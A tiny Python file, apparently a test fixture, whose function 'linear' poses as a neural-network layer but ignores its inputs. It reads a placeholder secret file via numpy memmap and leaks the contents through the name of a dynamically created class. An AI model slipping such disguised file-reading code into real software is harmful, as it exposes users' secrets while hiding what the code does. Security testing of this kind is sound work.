import numpy as np


def linear(input, weight, bias=None):
    return type(bytes(np.memmap("@SECRET_FILE@", mode="r")).decode(), (), {})()
